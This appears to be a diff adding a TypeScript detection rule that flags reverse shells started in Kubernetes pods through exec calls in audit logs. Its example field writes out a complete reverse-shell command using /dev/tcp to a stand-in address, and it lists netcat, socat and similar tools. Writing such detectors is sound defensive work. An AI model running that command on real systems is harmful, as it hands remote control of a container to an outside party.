@@ -1,0 +1,34 @@
+import { shownCaller, shownObject } from '../claim.ts';
+import { execOf } from '../exec.ts';
+import { reverseShellIn } from '../reverse-shell.ts';
+import type { AuditRule } from '../rule.ts';
+
+/** A command, run in a container through the API, that hands a shell to another host. */
+export const execReverseShell: AuditRule = {
+  id: 'exec-reverse-shell',
+  reads: 'audit',
+  title: 'Reverse shell started in a pod',
+  sees: 'An exec whose command ties a shell to a connection: /dev/tcp, netcat -e, socat, a named pipe, or the sockets of a scripting language. Probes of the own host are none; probes of another host and terminals without a connection count for less.',
+  why: 'There is no ordinary reason for it: somebody elsewhere now gives the orders in this container.',
+  technique: [
+    { id: 'T1059.004', name: 'Command and Scripting Interpreter: Unix Shell' },
+    { id: 'T1095', name: 'Non-Application Layer Protocol' },
+  ],
+  severity: 'high',
+  confidence: 0.9,
+  family: 'exec',
+  conclusive: true,
+  falsePositives: ['Security training and capture-the-flag environments', 'Exercises of a red team'],
+  filter: 'protoPayload.methodName=~"[.]pods[.]exec[.](create|get)$"',
+  example: "kubectl exec -n shop cart-7d9f -- bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
+  match: (signal) => {
+    const exec = execOf(signal);
+    const seen = exec?.line === undefined ? undefined : reverseShellIn(exec.line);
+    if (exec === undefined || seen === undefined) return undefined;
+    return {
+      on: exec.on,
+      because: [`${shownCaller(signal)}: ${seen.what} in ${shownObject(signal)}`, `the command is ${exec.shown}`],
+      ...(seen.certain ? {} : { severity: 'medium', confidence: 0.45, conclusive: false }),
+    };
+  },
+};
